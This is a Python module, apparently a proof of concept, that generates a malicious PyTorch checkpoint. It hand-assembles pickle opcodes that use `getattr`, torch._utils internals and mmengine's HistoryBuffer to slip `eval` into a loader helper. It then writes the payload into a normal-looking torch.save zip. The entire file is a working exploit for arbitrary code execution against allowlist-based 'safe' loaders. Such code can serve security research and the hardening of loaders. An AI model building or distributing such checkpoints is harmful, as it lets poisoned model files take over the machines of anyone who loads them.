"""A checkpoint that runs code where a loader lets it have `getattr`, opcode by opcode."""

import pickle
import struct
import zipfile

import torch


def name(module, attribute):
    return f'c{module}\n{attribute}\n'.encode()


def text(value):
    data = value.encode()
    return pickle.BINUNICODE + struct.pack('<I', len(data)) + data


def call(function, *arguments):
    return function + pickle.MARK + b''.join(arguments) + pickle.TUPLE + pickle.REDUCE


def attribute(owner, key):
    return call(name('builtins', 'getattr'), owner, text(key))


def history(state):
    """A HistoryBuffer whose attributes are `state`."""
    return (
        name('mmengine.logging.history_buffer', 'HistoryBuffer')
        + pickle.EMPTY_TUPLE
        + pickle.NEWOBJ
        + state
        + pickle.BUILD
    )


def set_item(owner, key, value):
    return owner + text(key) + value + pickle.SETITEM


def program(code):
    """Put `eval` where an allowed function looks up its helper, then call that function.

    The helper is first replaced by the `get` of the builtins dictionary, which fetches `eval`; a
    HistoryBuffer carries it from there into an attribute.
    """
    rebuild = name('torch._utils', '_rebuild_parameter')
    helper = name('torch._utils', '_rebuild_device_tensor_from_cpu_tensor')
    slot = '_get_restore_location'
    namespace = attribute(rebuild, '__globals__')
    carrier = history(set_item(pickle.EMPTY_DICT, 'to', name('collections', 'OrderedDict')))

    def use(argument):
        return call(helper, carrier, pickle.NONE, text(argument), pickle.NEWFALSE)

    fetch = set_item(namespace, slot, attribute(attribute(rebuild, '__builtins__'), 'get'))
    put = set_item(namespace, slot, attribute(history(use('eval')), 'device'))
    steps = fetch + put + use(code)
    return pickle.PROTO + b'\x02' + pickle.MARK + steps + pickle.TUPLE + pickle.STOP


def write(path, code):
    """A file in torch's format whose pickle is `program(code)`."""
    plain = path.with_suffix('.plain')
    torch.save({}, plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, 'w') as target:
        for item in source.namelist():
            target.writestr(item, program(code) if item.endswith('data.pkl') else source.read(item))
    plain.unlink()
    return path
